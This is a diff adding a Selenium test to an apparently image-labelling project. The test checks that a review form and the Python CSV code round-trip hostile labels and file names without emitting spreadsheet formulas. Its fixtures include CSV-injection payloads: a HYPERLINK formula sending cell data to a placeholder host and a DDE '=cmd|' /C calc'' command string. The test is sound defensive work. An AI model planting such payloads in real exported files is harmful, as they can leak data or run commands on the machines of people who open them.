@@ -5,6 +5,7 @@ browser or driver fails the test instead of skipping it."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 import shutil
 import time
@@ -148,3 +149,54 @@ def test_the_review_cells_save_lands_in_the_record_invoke_train_reads(tmp_path):
                     env={"INVOKE_PUBLISH_TO": str(published)})  # fmt: skip
     assert result.returncode == 0, result.stderr
     assert f"--record {folder}" in result.stdout
+
+
+# Labels and file names a spreadsheet would run as formulas, or that need the CSV's quoting.
+HOSTILE_LABELS = ['=HYPERLINK("http://x/?"&A2,"click")', "+1+1", "@SUM(2+2)", 'say "hi"', "a, b", "-1", "'quoted"]
+HOSTILE_PATHS = ["=cmd|' /C calc'!A0.jpg", "+1+1.jpg", "@SUM(2+2).jpg", "-rf.jpg", "'quoted.jpg",
+                 'say "hi", then.jpg', "line\rbreak.jpg", "ünï cødé 裂缝.jpg"]  # fmt: skip
+
+
+def test_hostile_names_round_trip_between_the_forms_script_and_python(browser, tmp_path):
+    """The form's JavaScript writes corrections.csv as trainer/cells.py does: relabelled to
+    hostile labels, hostile paths, every decision reads back through parse_corrections as it was
+    made and no cell begins a formula; and a file Python wrote (format_corrections) loads back
+    into the form as the same decisions."""
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import Select
+
+    from trainer.data.corrections import Correction, format_corrections, parse_corrections
+    from trainer.diagnostics import review
+
+    labels = HOSTILE_LABELS
+    rows = [{"ImagePath": path, "Label": labels[index % len(labels)], "SuggestedLabel": labels[(index + 1) % len(labels)],
+             "Score": "0.9100", "Reason": "label: unlikely", "Group": ""}
+            for index, path in enumerate(HOSTILE_PATHS)]  # fmt: skip
+    page = tmp_path / "form.html"
+    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
+                    + review.form(rows, labels, {}) + "</body></html>", encoding="utf-8")  # fmt: skip
+    chosen = [row["SuggestedLabel"] for row in rows]
+    chosen[-1] = "drop"
+    browser.get(page.as_uri())
+    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
+    assert len(selects) == len(rows)
+    for select, value in zip(selects, chosen, strict=True):
+        Select(select).select_by_value(value)
+    browser.find_element(By.ID, "review-download").click()
+    saved = _waited_for(browser.downloads / "corrections.csv")
+    text = saved.read_bytes().decode("utf-8")  # as read_corrections reads it: a carriage return kept
+    written = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
+    assert not [cell for cell in written if cell.startswith(cells.FORMULA) and not cells.is_number(cell)]
+    expected = [(row["ImagePath"], value, review.opinion(row)) for row, value in zip(rows, chosen, strict=True)]
+    assert [(c.written, c.label, c.opinion) for c in parse_corrections(text, saved)] == expected
+
+    decisions = [Correction(0, path, label, opinion=opinion) for path, label, opinion in reversed(expected)]
+    (tmp_path / "python.csv").write_bytes(format_corrections(decisions).encode("utf-8"))
+    browser.get(page.as_uri())
+    browser.find_element(By.ID, "review-load").send_keys(str(tmp_path / "python.csv"))
+    deadline = time.monotonic() + 10
+    while "loaded" not in browser.find_element(By.ID, "review-status").text and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert browser.find_element(By.ID, "review-status").text.startswith(f"loaded {len(rows)} decision(s);")
+    selects = browser.find_elements(By.CSS_SELECTOR, "table.review tr[data-path] select")
+    assert [Select(s).first_selected_option.get_attribute("value") for s in selects] == chosen
